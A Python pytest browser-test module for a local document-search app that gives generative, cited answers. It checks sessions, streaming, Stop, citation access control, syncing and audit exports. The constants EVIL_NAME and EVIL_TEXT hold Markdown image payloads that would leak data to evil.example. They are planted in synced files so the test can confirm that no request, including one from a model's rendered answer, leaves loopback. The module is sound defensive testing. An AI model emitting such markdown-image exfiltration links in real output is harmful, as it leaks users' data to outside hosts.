"""The daily flows in a real browser: headless Debian Chromium (Playwright drives
/usr/bin/chromium) against ``enclave run --sync-samples`` started on a free localhost port.

As an employee, an administrator and a compliance officer: sign-in, a refresh and deep links
keep the session; an answer streams with the input disabled; Stop ends it; a citation chip
opens the passage with the supporting sentence marked, "open at page" serves the PDF to its
readers only; the admin watches a sync finish without clicking; the compliance officer opens a
record by clicking its row and exports with a user filter. Every request every page makes is
recorded, and any that leaves loopback fails the module (as does a Content-Security-Policy
violation, i.e. an attempt the browser blocked). Screenshots of each step go to
``var/ci-artifacts/screenshots/`` (kept by CI as artifacts; docs/ui.md).
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

pytestmark = [pytest.mark.browser, pytest.mark.slow]

REPO = Path(__file__).resolve().parents[2]
CHROMIUM = Path("/usr/bin/chromium")
SHOTS = REPO / "var" / "ci-artifacts" / "screenshots"
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-features=Translate,OptimizationHints,MediaRouter",
]
LOOPBACK = {"127.0.0.1", "localhost", "::1", "[::1]"}
# Named so that, rendered as Markdown, it would be an image fetched from outside.
EVIL_NAME = "![leak](http:evil.example?leak=name).md"
EVIL_TEXT = "Visitors sign in at the desk. ![leak](http://evil.example/doc.png?leak=doc)"


@dataclass
class Served:
    url: str
    config: Path
    proc: subprocess.Popen[str]
    log: Path
    extra: Path
    outside: list[str] = field(default_factory=list)  # requests that left loopback
    blocked: list[str] = field(default_factory=list)  # CSP violations (blocked attempts)
    requests: int = 0
    state: dict[str, Any] = field(default_factory=dict)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _wait_healthy(url: str, proc: subprocess.Popen[str], log: Path, timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"enclave run exited {proc.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as resp:
                if resp.status == 200:
                    return
        except OSError:
            pass
        time.sleep(1)
    raise AssertionError(f"the UI did not come up in {timeout} s:\n{log.read_text()}")


def _leftover_children(pid: int) -> list[str]:
    """The UI process's children that should not be there: zombies, parser servers."""
    import psutil

    found = []
    for child in psutil.Process(pid).children(recursive=True):
        try:
            if child.status() == psutil.STATUS_ZOMBIE:
                found.append(f"zombie {child.pid}")
            elif "multiprocessing" in " ".join(child.cmdline()):
                found.append(" ".join(child.cmdline())[:70])
        except psutil.NoSuchProcess:
            continue
    return found


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    if not CHROMIUM.exists():
        if os.environ.get("CI"):
            pytest.fail("Debian chromium is not installed (/usr/bin/chromium)")
        pytest.skip("Debian chromium is not installed (/usr/bin/chromium)")
    SHOTS.mkdir(parents=True, exist_ok=True)
    for old in SHOTS.glob("*.png"):
        old.unlink()
    base = tmp_path_factory.mktemp("browser")
    config = base / "enclave.toml"
    # Generative answers on the packaged GGUF (a base model, allowed here), long ones, so that
    # Stop has something to stop: the extractive default answers in one piece.
    config.write_text(
        'data_dir = "data"\n[answer]\nmode = "generative"\n'
        "[llm]\nmax_answer_tokens = 400\nallow_base_model = true\n",
        encoding="utf-8",
    )
    extra = base / "extra"
    extra.mkdir()
    (extra / "visitor-policy.md").write_text(f"# Visitor policy\n\n{EVIL_TEXT}\n")
    (extra / "parking.md").write_text("# Parking\n\nStaff park in lot B from 7:00 to 19:00.\n")
    (extra / EVIL_NAME).write_text("# Odd name\n\nA file whose name looks like Markdown.\n")
    port = _free_port()
    log = base / "enclave-run.log"
    env = {k: v for k, v in os.environ.items() if not k.startswith("ENCLAVE_")}
    env["HF_HUB_OFFLINE"] = "1"
    with log.open("w") as out:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "ui.launcher",
                "run",
                "--config",
                str(config),
                "--port",
                str(port),
                "--address",
                "127.0.0.1",
                "--sync-samples",
            ],
            cwd=REPO,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            text=True,
            start_new_session=True,
        )
    served = Served(f"http://127.0.0.1:{port}", config, proc, log, extra)
    try:
        _wait_healthy(served.url, proc, log, timeout=600)
        assert "erin-demo-2026" in log.read_text()  # demo accounts are printed on start
        # The demo sync ran before the launcher became the UI: nothing of it may linger.
        assert _leftover_children(proc.pid) == []
        yield served
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(10)


@pytest.fixture(scope="module")
def browser(served: Served) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        launched = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=FLAGS)
        try:
            yield launched
        finally:
            launched.close()


def new_context(browser: Any, served: Served) -> Any:
    """A fresh browser profile whose every request is recorded; none may leave loopback."""
    context = browser.new_context(viewport={"width": 1280, "height": 1000}, accept_downloads=True)

    def on_request(request: Any) -> None:
        served.requests += 1
        parts = urlsplit(request.url)
        if parts.scheme in ("data", "blob", "about", "chrome-extension"):
            return
        if parts.hostname not in LOOPBACK:
            served.outside.append(request.url)

    def guard(route: Any) -> None:  # and nothing outside is even attempted on the wire
        host = urlsplit(route.request.url).hostname
        if route.request.url.startswith(("data:", "blob:")) or host in LOOPBACK:
            route.continue_()
        else:
            route.abort()

    context.on("request", on_request)
    context.route("**/*", guard)
    return context


def new_page(context: Any, served: Served) -> Any:
    page = context.new_page()

    def on_console(message: Any) -> None:
        if "Content Security Policy" in message.text:
            served.blocked.append(message.text)

    page.on("console", on_console)
    return page


def shot(page: Any, name: str) -> None:
    time.sleep(0.5)  # let Streamlit finish painting
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)


def sign_in(page: Any, user: str) -> None:
    page.get_by_role("textbox", name="User name").fill(user)
    page.get_by_role("textbox", name="Password").fill(f"{user}-demo-2026")
    page.get_by_role("button", name="Sign in").click()


def session_cookie(context: Any, timeout: float = 15) -> dict[str, Any]:
    """The session cookie, once the page has exchanged its claim code for it."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = [c for c in context.cookies() if c["name"] == "enclave_session"]
        if found:
            return dict(found[0])
        time.sleep(0.2)
    raise AssertionError("the browser never received the session cookie")


def chat_box(page: Any) -> Any:
    return page.get_by_test_id("stChatInputTextArea")


def policies(served: Served) -> Any:
    from core.settings import load_settings
    from policies.service import PolicyService

    return PolicyService.from_settings(load_settings(served.config))


def test_employee_asks_reads_a_citation_and_keeps_the_session(browser: Any, served: Served) -> None:
    from playwright.sync_api import expect

    context = new_context(browser, served)
    page = new_page(context, served)
    page.goto(served.url, wait_until="domcontentloaded")
    started = time.monotonic()
    sign_in(page, "erin")
    page.get_by_text("What you can search").wait_for(timeout=120_000)
    cookie = session_cookie(context)
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    shot(page, "01-employee-empty-chat")

    chat_box(page).fill("What is the hotel cap per night in London?")
    chat_box(page).press("Enter")
    stop = page.get_by_role("button", name="Stop")
    stop.wait_for(timeout=60_000)
    expect(chat_box(page)).to_be_disabled()  # no second question while this one is answered
    shot(page, "02-employee-answer-streaming")
    page.get_by_role("button", name="Regenerate").wait_for(timeout=300_000)
    print(f"sign-in to cited answer: {time.monotonic() - started:.1f} s")
    expect(chat_box(page)).to_be_enabled()
    messages = page.get_by_test_id("stChatMessage")
    expect(messages).to_have_count(2)
    answer = messages.last
    assert answer.locator("a[href^='http'], img").count() == 0  # nothing live in the answer
    shot(page, "03-employee-answer")

    chip = page.locator("[class*='st-key-chip_'] button").filter(has_text="travel-and-expenses")
    chip.first.click()
    marked = page.locator(".enclave-passage mark").first
    marked.wait_for(timeout=10_000)
    assert "EUR" in marked.inner_text()
    shot(page, "04-employee-citation-passage")
    opener = page.get_by_role("link", name="Open at page")
    href = opener.first.get_attribute("href")
    assert href and "#page=" in href
    pdf = context.request.get(served.url + href.split("#")[0])
    assert pdf.status == 200 and pdf.headers["content-type"] == "application/pdf"
    assert pdf.body().startswith(b"%PDF")
    # Readers only: without a session nothing; erin cannot fetch a file only HR managers read.
    from ingest.model import make_doc_id, make_point_id

    anonymous = browser.new_context()
    assert anonymous.request.get(served.url + href.split("#")[0]).status == 401
    anonymous.close()
    secret = make_point_id(make_doc_id("samples", "hr/confidential/salary-bands-2026.xlsx"), 0)
    assert context.request.get(f"{served.url}/enclave-api/file?chunk={secret}").status == 403
    page.keyboard.press("Escape")

    # A refresh keeps the session and the open conversation.
    title = page.get_by_role("heading", level=1).inner_text()
    page.reload(wait_until="domcontentloaded")
    page.get_by_role("button", name="Regenerate").wait_for(timeout=60_000)
    assert page.get_by_role("heading", level=1).inner_text() == title
    assert page.get_by_role("textbox", name="User name").count() == 0
    shot(page, "05-employee-after-refresh")
    context.close()


def test_stop_ends_a_streaming_answer(browser: Any, served: Served) -> None:
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

    context = new_context(browser, served)
    page = new_page(context, served)
    page.goto(served.url, wait_until="domcontentloaded")
    sign_in(page, "erin")
    page.get_by_text("What you can search").wait_for(timeout=120_000)
    stopped = page.get_by_text("Stopped before the answer was complete")
    # The small model sometimes finishes before the click lands: then ask again (at most 3).
    for _attempt in range(3):
        served.state["stop_started"] = time.time()
        chat_box(page).fill("What is the hotel cap per night in Oslo, and is breakfast included?")
        chat_box(page).press("Enter")
        stop = page.get_by_role("button", name="Stop")
        stop.wait_for(timeout=60_000)
        with contextlib.suppress(PlaywrightTimeoutError):  # gone: the answer was complete
            stop.click(timeout=5_000)
        page.get_by_role("button", name="Regenerate").last.wait_for(timeout=300_000)
        if stopped.count():
            break
    assert stopped.count() == 1, "Stop never caught the answer while it streamed"
    assert page.get_by_role("button", name="Regenerate").count() == 1
    shot(page, "06-employee-stopped")
    context.close()


def test_a_stopped_answer_is_audited(served: Served) -> None:
    assert "stop_started" in served.state
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        records = policies(served).audit.records(user_id="erin")
        if any((r.get("details") or {}).get("outcome") == "stopped" for r in records):
            return
        time.sleep(2)
    raise AssertionError("no audit record with outcome 'stopped'")


def test_admin_watches_a_sync_finish_without_clicking(browser: Any, served: Served) -> None:
    context = new_context(browser, served)
    page = new_page(context, served)
    page.goto(served.url + "/sources", wait_until="domcontentloaded")  # a deep link
    sign_in(page, "dave")
    page.get_by_text("Start a sync").wait_for(timeout=120_000)
    assert "/sources" in page.url
    shot(page, "07-admin-sources")
    page.get_by_test_id("stSelectbox").first.click()
    page.get_by_role("option", name="(a new source)").click()
    page.get_by_role("textbox", name="New source name").fill("extra")
    page.get_by_role("textbox", name="Folder on this server (new source)").fill(str(served.extra))
    page.get_by_role("button", name="Start sync").click()
    finished = page.get_by_text("The sync of extra finished")
    running_shot = False
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and finished.count() == 0:
        if not running_shot and page.get_by_text("Syncing extra").count():
            shot(page, "08-admin-sync-running")
            running_shot = True
        time.sleep(0.3)
    assert finished.count() == 1, "the page did not show the end of the sync by itself"
    # the new source (.first: while Streamlit reruns the page, the old render may still be
    # on screen beside the new one for a moment)
    page.get_by_role("heading", name="extra").first.wait_for(timeout=30_000)
    page.get_by_text("3 files added").first.wait_for(timeout=10_000)
    shot(page, "09-admin-sync-finished")
    # The UI process went back to its idle set of processes.
    time.sleep(2)
    assert _leftover_children(served.proc.pid) == []
    context.close()


def test_compliance_opens_a_record_and_exports_one_user(browser: Any, served: Served) -> None:
    context = new_context(browser, served)
    page = new_page(context, served)
    page.goto(served.url + "/audit", wait_until="domcontentloaded")
    sign_in(page, "carol")
    banner = page.get_by_text("Audit chain intact")
    banner.wait_for(timeout=120_000)
    count = policies(served).audit.count()
    assert f"{count} records verified" in banner.inner_text()
    shot(page, "10-compliance-audit-log")

    unfiltered = _one_text(page, "record(s) shown")
    page.get_by_role("textbox", name="User").fill("erin")
    page.get_by_role("textbox", name="User").press("Enter")
    _one_text(page, "record(s) shown", other_than=unfiltered)
    time.sleep(2)
    grid = page.get_by_test_id("stDataFrame").first
    box = grid.bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + 18, box["y"] + 35 + 18)  # the first row's selection cell
    page.get_by_role("heading", name="Record ").wait_for(timeout=30_000)
    assert "record=" in page.url
    shot(page, "11-compliance-record")

    page.get_by_role("button", name="Prepare export").click()
    download_button = page.get_by_role("button", name="Download JSONL")
    download_button.wait_for(timeout=60_000)
    with page.expect_download() as info:
        download_button.click()
    exported = Path(info.value.path()).read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in exported[:-1]]
    assert "checkpoint" in json.loads(exported[-1]) or "signature" in json.loads(exported[-1])
    erin = policies(served).audit.pseudonym("erin", create=False)
    assert records and {r["user_pseudonym"] for r in records} == {erin}
    shown = _one_text(page, "record(s) shown")
    assert shown.startswith(f"{len(records)} record(s)")
    shot(page, "12-compliance-export")
    context.close()


def _one_text(page: Any, text: str, other_than: str | None = None, timeout: float = 60) -> str:
    """The text of the one element containing ``text`` (and differing from ``other_than``).
    While Streamlit reruns, the previous run's element can stay beside the new one for a
    moment: wait until a single one is left."""
    from playwright.sync_api import Error as PlaywrightError

    found = page.get_by_text(text)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if found.count() == 1:
            try:
                value = str(found.inner_text(timeout=2_000))
            except PlaywrightError:  # a second one appeared meanwhile
                value = other_than
            if value is not None and value != other_than:
                return value
        time.sleep(0.2)
    raise AssertionError(f"not one element with {text!r} (other than {other_than!r})")


def test_no_request_left_loopback(served: Served) -> None:
    assert served.requests > 100  # the flows above ran and were recorded
    assert served.outside == [], served.outside
    assert served.blocked == [], served.blocked
